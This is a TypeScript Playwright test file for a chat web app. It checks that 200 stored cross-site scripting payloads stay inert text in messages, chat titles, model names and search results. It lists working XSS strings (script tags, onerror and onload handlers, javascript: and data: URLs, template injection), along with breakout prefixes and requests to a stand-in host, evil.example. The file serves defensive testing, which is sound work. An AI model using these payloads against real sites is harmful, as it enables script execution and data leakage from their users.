// What was stored is text on the page, in every view and from every author.
import assert from "node:assert/strict";
import type { Page } from "playwright-core";
import { message, messages, onPage, test, useBrowser } from "./page-fixture.ts";

useBrowser();

const run = "document.title='pwned'";
/** Ways to run something, or to load it from elsewhere. */
const acts = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><circle r=9></svg>`,
  `<svg><script>${run}</script></svg>`,
  "<iframe src=javascript:alert(1)></iframe>",
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<body onload="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<video><source onerror="${run}"></video>`,
  "<object data=javascript:alert(1)></object>",
  "<embed src=//evil.example/x.swf>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>*{display:none}</style>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<form action=//evil.example><button>go</button></form>",
  "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
  `<template><script>${run}</script></template>`,
  "<img src=//evil.example/pixel.png>",
  "![pixel](https://evil.example/pixel.png)",
  "[click](javascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what is said
  "${alert(1)}",
];
/** What may stand before them, to break out of where they are. */
const outs = ["", "</p></li></ol>", '">', "'>", "-->", "]]>", "</textarea></title>", "```\n```\n"];
const payloads = outs.flatMap((out) => acts.map((act) => `${out}${act}`));

interface Watched {
  readonly dialogs: string[];
  readonly foreign: string[];
}

/** Notes every dialog, and every request that leaves the server. */
function watch(page: Page, url: string): Watched {
  const seen: Watched = { dialogs: [], foreign: [] };
  page.on("dialog", (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (!request.url().startsWith(url)) seen.foreign.push(request.url());
  });
  return seen;
}

const forbidden =
  "script, iframe, object, embed, link, style, base, meta, img, video, math, template, " +
  "svg:not(.icon, .mark), form:not(.composer), [onload], [onerror], [onfocus], [ontoggle]";

async function assertHarmless(page: Page, seen: Watched): Promise<void> {
  assert.deepEqual(seen, { dialogs: [], foreign: [] });
  assert.doesNotMatch(await page.title(), /^pwned/);
  assert.equal(await page.locator("#content").locator(forbidden).count(), 0);
  // All at once: rows come and go while it scrolls.
  const addresses = `[...document.querySelectorAll("#content a[href]")].map((link) => link.getAttribute("href"))`;
  for (const address of (await page.evaluate(addresses)) as string[]) {
    assert.match(address, /^(\/|https?:\/\/)/);
  }
}

test("there are 200 payloads to try", () => assert.equal(new Set(payloads).size, 200));

for (const role of ["user", "assistant"] as const) {
  test(`200 payloads said by the ${role} stay text: nothing runs, loads or becomes an element`, async () => {
    await onPage(
      {
        prepare: async (c) => {
          const said = payloads.map((content, n) => ({ role, content: `${content} no. ${n}.` }));
          await c.throughline.chats.append("local:me", said);
        },
      },
      async ({ page, url }) => {
        const seen = watch(page, url);
        await page.reload();
        await message(page, "no. 199.").waitFor();
        const met = new Set<string>();
        // At the top for some looks on end, all there: older messages move what is shown when they come in.
        for (let looks = 0; looks < 3; ) {
          const isWhole = (await page.getByText("Start of the chat").count()) > 0;
          for (const text of await messages(page).allTextContents()) {
            const [, n] = text.match(/no\. (\d+)\./) ?? [];
            if (n !== undefined) met.add(n);
          }
          await assertHarmless(page, seen);
          const box = page.locator(".transcript-box");
          const top = await box.evaluate((each) => {
            each.scrollBy(0, -300);
            return each.scrollTop;
          });
          await page.waitForTimeout(30);
          looks = isWhole && top === 0 ? looks + 1 : 0;
        }
        assert.equal(met.size, 200);
      },
    );
  });
}

test("payloads as ids, titles, models and finds stay text in the list of chats, and an address that names a server or a token of its own changes nothing", async () => {
  await onPage(
    {
      path: "/chats",
      prepare: async (c) => {
        for (const [n, content] of payloads.slice(0, 40).entries()) {
          await c.throughline.chats.append(`${n} ${content}`, [
            { role: "user", content: `find ${content}` },
            { role: "assistant", content, provider: content, model: content },
          ]);
        }
      },
    },
    async ({ page, url }) => {
      const seen = watch(page, url);
      await page.reload();
      await page.locator(".chat-item").nth(39).waitFor();
      await assertHarmless(page, seen);
      await page.getByLabel("Search all chats").fill("find");
      await page.locator("mark").nth(20).waitFor();
      await assertHarmless(page, seen);
      await page.locator(".chat-item a").first().click();
      await messages(page).nth(1).waitFor();
      await assertHarmless(page, seen);
      await page.goto(`${url}/?gatewayUrl=ws://evil.example&token=x#https://evil.example`);
      await page.getByText("Nothing here yet").waitFor();
      await assertHarmless(page, seen);
    },
  );
});
